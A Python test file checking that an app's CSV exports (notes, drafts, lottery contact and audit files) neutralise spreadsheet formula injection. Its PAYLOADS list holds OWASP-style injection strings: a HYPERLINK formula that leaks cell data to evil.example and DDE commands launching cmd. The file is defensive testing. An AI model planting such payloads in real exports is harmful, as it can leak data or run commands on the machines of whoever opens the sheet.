"""Issue 12, point 2: no CSV the app hands out can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import Session

from app.clock import utcnow
from app.db import make_engine
from app.exports import safe_cell
from app.lottery.audit import audit_csv
from app.lottery.files import contact_csv
from app.models import Note
from app.themes.models import Draft

pytestmark = pytest.mark.timeout(30)

# OWASP's classic payloads: a link that leaks the sheet, and DDE commands
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
DANGEROUS = tuple("=+-@\t\r")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str, payloads: list[str]) -> None:
    found = cells(text)
    for payload in payloads:
        assert "'" + payload in found, f"{payload!r} not neutralised"
    assert not [c for c in found if c.startswith(DANGEROUS) and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_safe_cell_quotes_formula_starts_and_keeps_the_rest() -> None:
    for payload in [*PAYLOADS, "\tx", "\rx", "＝1+1"]:
        assert safe_cell(payload) == "'" + payload
    for plain in ["Fællesskab", "a=b", "", "-3", "+4.5", "-0,5", "1e3", 7, None, "'already"]:
        assert safe_cell(plain) == plain


def test_notes_and_drafts_exports_are_inert(facilitator_client, demo, settings) -> None:
    aid = demo["assembly_id"]
    with Session(make_engine(settings.database_url)) as db:
        for i, payload in enumerate(PAYLOADS):
            db.add(
                Note(
                    assembly_id=aid,
                    member_id=demo["members"][i]["id"],
                    client_key=f"evil-key-{i:04d}",
                    kind="value",
                    text=payload,
                    created_at=utcnow(),
                )
            )
        db.add(
            Draft(
                assembly_id=aid,
                title=PAYLOADS[0],
                text=PAYLOADS[1],
                rationale=PAYLOADS[3],
                created_at=utcnow(),
                updated_at=utcnow(),
            )
        )
        db.commit()
    notes = facilitator_client.get(f"/f/a/{aid}/notes.csv")
    assert notes.status_code == 200
    assert_inert(notes.content.decode("utf-8-sig"), PAYLOADS)
    drafts = facilitator_client.get(f"/f/a/{aid}/drafts.csv")
    assert drafts.status_code == 200
    assert_inert(drafts.content.decode("utf-8-sig"), [PAYLOADS[0], PAYLOADS[1], PAYLOADS[3]])


def test_lottery_contact_and_audit_csvs_are_inert() -> None:
    pool = {
        "columns": ["id", "name", "phone"],
        "id_column": "id",
        "rows": [[PAYLOADS[2], PAYLOADS[0], PAYLOADS[1]], ["p2", PAYLOADS[3], "+45 1234"]],
    }
    assert_inert(contact_csv(pool, [PAYLOADS[2], "p2"], ["p2"]), PAYLOADS)
    audit = {
        "pool_size": 2,
        "quotas": [{"feature": "=1+1", "value": "@x", "min": 0, "max": 1, "pool": 2, "panel": 1}],
        "draws": [{"round": 1, "seed": PAYLOADS[0], "seed_normalised": PAYLOADS[0]}],
    }
    text = audit_csv(audit)
    assert_inert(text, [PAYLOADS[0], "=1+1=@x"])
